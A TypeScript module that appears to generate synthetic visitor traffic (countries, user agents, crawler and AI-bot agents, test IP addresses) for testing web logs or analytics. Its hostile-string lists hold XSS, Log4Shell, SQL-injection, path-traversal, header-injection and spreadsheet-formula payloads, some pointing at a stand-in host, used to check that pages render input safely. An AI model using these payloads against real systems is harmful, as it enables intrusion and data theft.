import crawlers from 'crawler-user-agents'
import { mix, pickTable, type Random, randomOf } from './random.ts'

/** How a site's visitors spread over countries. */
export type Audience = 'national' | 'international' | 'latin'

const audiences: Record<Audience, readonly (readonly [string, number])[]> = {
  national: [
    ['ES', 84],
    ['FR', 2.6],
    ['US', 2.4],
    ['DE', 1.9],
    ['GB', 1.8],
    ['AR', 1.3],
    ['MX', 1.1],
    ['PT', 0.9],
    ['IT', 0.8],
    ['CH', 0.6],
    ['BE', 0.5],
    ['CO', 0.5],
    ['NL', 0.4],
    ['AD', 0.3],
    ['CL', 0.3],
    ['MA', 0.2],
    ['SE', 0.2],
    ['JP', 0.1],
    ['AU', 0.1],
  ],
  latin: [
    ['MX', 31],
    ['CO', 17],
    ['AR', 15],
    ['ES', 13],
    ['CL', 8],
    ['PE', 6],
    ['US', 5],
    ['EC', 2],
    ['UY', 1.5],
    ['BR', 1],
    ['GT', 0.5],
  ],
  international: [
    ['US', 29],
    ['ES', 12],
    ['DE', 11],
    ['GB', 9],
    ['FR', 8],
    ['IN', 7],
    ['BR', 5],
    ['JP', 4],
    ['IT', 3],
    ['NL', 3],
    ['PL', 2],
    ['CA', 2],
    ['AU', 1.5],
    ['SG', 1],
    ['ZA', 0.8],
    ['KR', 0.7],
    ['SE', 0.6],
    ['NO', 0.4],
  ],
}

const browsers: readonly (readonly [string, number])[] = [
  [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Safari/537.36',
    17,
  ],
  [
    'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Mobile Safari/537.36',
    24,
  ],
  [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.4 Mobile/15E148 Safari/604.1',
    19,
  ],
  [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.4 Safari/605.1.15',
    5,
  ],
  [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Safari/537.36',
    5,
  ],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:150.0) Gecko/20100101 Firefox/150.0', 4],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:150.0) Gecko/20100101 Firefox/150.0', 1.4],
  [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Safari/537.36 Edg/148.0.0.0',
    6,
  ],
  [
    'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36',
    4,
  ],
  [
    'Mozilla/5.0 (Linux; Android 16; Pixel 9 Build/BP2A.250605.031; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/147.0.7390.44 Mobile Safari/537.36 [FBAN/EMA;FBLC/es_ES;FBAV/470.0.0.8.109;]',
    2,
  ],
  [
    'Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
    2,
  ],
  ['Mozilla/5.0 (SMART-TV; Linux; Tizen 8.0) AppleWebKit/538.1 (KHTML, like Gecko) Version/8.0 TV Safari/538.1', 1.4],
  ['okhttp/5.1.0', 1.6],
  ['Dalvik/2.1.0 (Linux; U; Android 14; SM-A546B Build/UP1A.231005.007)', 1],
  ['AppleCoreMedia/1.0.0.22F76 (iPhone; U; CPU OS 18_5 like Mac OS X; es_es)', 1],
  ['Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko', 0.3],
]

const leadingBots = [
  'Googlebot\\/',
  'bingbot',
  'AhrefsBot',
  'SemrushBot',
  'GPTBot',
  'ClaudeBot',
  'YandexBot',
  'Applebot',
  'facebookexternalhit',
  'Bytespider',
  'UptimeRobot',
  'PetalBot',
]

/** Agents of AI operators besides those above: they replace some of the less frequent bots, whose requests stay the same. */
const aiAgents = [
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-SearchBot/1.0; +https://www.anthropic.com)',
  'meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)',
  'CCBot/2.0 (https://commoncrawl.org/faq/)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36',
  'DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; +https://docs.mistral.ai/robots)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; YouBot/1.0; +https://about.you.com/youbot/) Chrome/119.0.6045.214 Safari/537.36',
]

/** The first of the bots that have these agents. */
const FIRST_AI = 16

/** Strings that break careless pages: markup, formulas, direction marks, templates, an endless one. They must be shown as text. */
export const hostileStrings = {
  agents: [
    '<script>alert("agent")</script>',
    '"><img src=x onerror=alert(1)>',
    `=HYPERLINK("http://198.51.100.9/?leak","Chrome")`,
    `\${jndi:ldap://198.51.100.9/a}`,
    `Mozilla/5.0 ${'A'.repeat(1900)}`,
    '\u202Eexe.tobelgooG',
    '{{constructor.constructor("return 1")()}}',
  ],
  paths: [
    '/search?q=<script>alert(document.domain)</script>',
    "/product?id=1'%20OR%20'1'='1",
    '/../../../../etc/passwd',
    '/%00%0d%0aSet-Cookie:%20a=b',
    '/wp-login.php?redirect_to=javascript:alert(1)',
    '/__proto__/constructor',
    `/${'very-long-segment/'.repeat(110)}`,
  ],
  referers: ['javascript:alert(1)', 'https://example.com/"><svg/onload=alert(1)>', '=1+1'],
} as const

/** Attack strings in the properties of a request. */
export type HostileStrings = Readonly<Record<'agents' | 'paths' | 'referers', readonly string[]>>

/** Additional ones for the hostile scenario. */
export const moreHostileStrings = {
  agents: [
    ...hostileStrings.agents,
    `=cmd|'/C calc'!A0`,
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '👩‍👩‍👧‍👦 e\u0301\u0302\u0303 ﷽',
    '\u200B\u200B',
  ],
  paths: [
    ...hostileStrings.paths,
    `/?next=https://x.example/${'a'.repeat(1980)}`,
    `/=cmd|'/C calc'!A0`,
    '/\u202Egpj.exe',
    '/😀/👩‍👩‍👧‍👦',
    '//x.example/%2e%2e/@SUM(1+1)',
    '/"><svg onload=alert(1)>',
  ],
  referers: [
    ...hostileStrings.referers,
    `https://x.example/${'a'.repeat(1980)}`,
    `+cmd|'/C calc'!A0`,
    '-2+3',
    '@SUM(1+1)',
    'https://\u202Emoc.elpmaxe/',
  ],
} as const

/** A visitor: what stays the same in all of their requests. */
export interface Person {
  clientip: string
  countrycode: string
  agent: string
  isBot: boolean
}

function addressOf(index: number): string {
  const blocks = ['203.0.113', '198.51.100', '192.0.2']
  if (index < 3 * 254) return `${blocks[index % 3]}.${1 + Math.floor(index / 3)}`
  const h = mix(index, 7)
  return `2001:db8:${(h >>> 20).toString(16)}:${((h >>> 8) & 0xfff).toString(16)}::${(index & 0xffff).toString(16)}`
}

/** The visitors and bots to draw from. */
export interface Crowd {
  person(random: Random): Person
  bot(random: Random): Person
}

const poolSize = 220

const byRank = (size: number, head: number) => Array.from({ length: size }, (_, i) => 1 / (i + head))

function botAgents(random: Random): string[] {
  const instances = (entry: { instances: string[] }) => entry.instances.filter((text) => text.length < 300)
  const leading = leadingBots.flatMap((name) =>
    instances(crawlers.find((entry) => entry.pattern.includes(name)) ?? { instances: [] }).slice(-1),
  )
  const rest = Array.from(
    { length: 60 },
    () => instances(crawlers[Math.floor(random() * crawlers.length)] ?? { instances: [] })[0],
  )
  return [...leading, ...rest.filter((text) => text !== undefined)]
}

/** Creates the visitors of an audience: a few hundred addresses per country, and crawlers. */
export function crowdOf(seed: number, audience: Audience): Crowd {
  const random = randomOf(mix(seed, audience.length, 91))
  const browserTable = pickTable(browsers.map(([, weight]) => weight))
  const countries = audiences[audience]
  let address = audience === 'national' ? 40 : audience === 'latin' ? 3000 : 8000
  const people = countries.map(([countrycode], rank) =>
    Array.from({ length: rank === 0 ? poolSize * 8 : poolSize }, (): Person => {
      const agent = browsers[browserTable[Math.floor(random() * 4096)] as number]?.[0] ?? ''
      return { clientip: addressOf(address++), countrycode, agent, isBot: false }
    }),
  )
  const agents = botAgents(random)
  const bots = Array.from({ length: 120 }, (_, i): Person => {
    const drawn = agents[i < FIRST_AI ? i : Math.floor(random() * agents.length)] ?? ''
    const agent = aiAgents[i - FIRST_AI] ?? drawn
    const countrycode = ['US', 'US', 'IE', 'DE', 'SG', 'RU', 'CN', 'FR'][Math.floor(random() * 8)] ?? 'US'
    return { clientip: addressOf(9000 + i), countrycode, agent, isBot: true }
  })
  const countryTable = pickTable(countries.map(([, weight]) => weight))
  const leadTable = pickTable(byRank(poolSize * 8, 5))
  const personTable = pickTable(byRank(poolSize, 9))
  const botTable = pickTable([1.35, ...byRank(119, 4)])
  const pick = (table: Uint16Array, random: Random) => table[Math.floor(random() * table.length)] as number
  return {
    person(random) {
      const country = pick(countryTable, random)
      const pool = people[country] ?? []
      return pool[pick(country === 0 ? leadTable : personTable, random)] as Person
    },
    bot: (random) => bots[pick(botTable, random)] as Person,
  }
}
